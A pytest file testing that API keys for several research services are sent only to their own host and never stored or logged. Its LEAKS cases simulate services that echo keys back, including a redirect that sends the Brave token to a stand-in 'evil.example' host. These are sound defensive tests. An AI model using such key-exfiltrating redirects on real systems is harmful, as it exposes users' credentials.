"""Keys go to their own service and nowhere else: no row, record, report or error holds one."""

import gzip
import json
from dataclasses import replace

import pytest
from playing_services import (
    HOSTS,
    KEYS,
    World,
    a_sourced_claim,
    answer,
    every_byte,
    full_desk,
    hunt,
    nobody,
)

from claims.steps.diagnose import diagnose
from claims.steps.listing import everything
from claims.steps.provider_states import provider_states


@pytest.fixture
def desk(edges):
    return full_desk(edges)


@pytest.fixture
def claim(database):
    return a_sourced_claim(database)


def test_no_key_is_written_anywhere(desk, claim, capsys):
    for sort in ("found", "error", "throttled"):
        hunt(desk, World(sort), [claim], refresh=True)
    report = json.dumps(
        [diagnose(desk), list(provider_states(desk)), everything(desk, "claims", claim)]
    )
    written = every_byte(desk) + report.encode() + repr(desk.settings).encode()
    written += "".join(capsys.readouterr()).encode()
    for name, key in KEYS.items():
        assert key.encode() not in written, name
    assert b"api_key=***" in written, "that a key was sent is told"


def test_every_key_is_sent_to_its_own_service_alone(desk, claim):
    world = World()
    hunt(desk, world, [claim])
    holders = {"factcheck_key": "factcheck", "openalex_key": "openalex",
               "courtlistener_token": "courtlistener", "brave_key": "brave"}  # fmt: skip
    for name, key in KEYS.items():
        to = {
            HOSTS.get(r.url.host)
            for r in world.asked
            if key in str(r.url) + str(r.headers.multi_items())
        }
        assert to == ({holders[name]} if name in holders else set())


LEAKS = [
    ("brave", lambda r: answer(302, Location="https://evil.example/?t=" + r.headers["x-subscription-token"])),
    ("openalex", lambda r: answer(200, json.dumps({"message": f"unknown {r.url.params['api_key']}"}).encode())),
    ("openalex", lambda r: answer(200, gzip.compress(json.dumps({"results": [
        {"id": "https://openalex.org/W1", "display_name": f"key {r.url.params['api_key']}"}]}).encode()),
        Content_Encoding="gzip")),
    ("factcheck", lambda r: answer(400, json.dumps({"error": {"message": f"bad {r.url}"}}).encode())),
    ("factcheck", lambda r: answer(301, Location=str(r.url).replace("https", "http") + "&again=1")),
    ("courtlistener", lambda r: answer(401, r.headers["authorization"].encode(), X_Echo=r.headers["authorization"])),
]  # fmt: skip


@pytest.mark.parametrize(("name", "leak"), LEAKS)
def test_a_service_that_repeats_the_key_is_not_kept_with_it(desk, claim, name, leak):
    world = World(**{name: leak})
    findings = hunt(desk, world, [claim], providers=(name,))
    told = json.dumps(findings.searches) + str(findings.failures)
    for key in KEYS.values():
        assert key not in told
        assert key.encode() not in every_byte(desk)
    elsewhere = [r for r in world.asked if r.url.host == "evil.example"]
    assert all(KEYS["brave_key"] not in str(r.headers.multi_items()) for r in elsewhere)


@pytest.mark.parametrize("key", ["k7x2", "has a space in it", "nö-ascii-key-1234"])
def test_a_key_that_can_be_none_is_told_without_showing_it(desk, claim, key):
    used = replace(desk, settings=replace(desk.settings, brave_key=key))
    findings = hunt(used, nobody, [claim], providers=("brave",))
    assert "brave_key" in findings.failures[0].why
    assert key not in str(findings.failures)
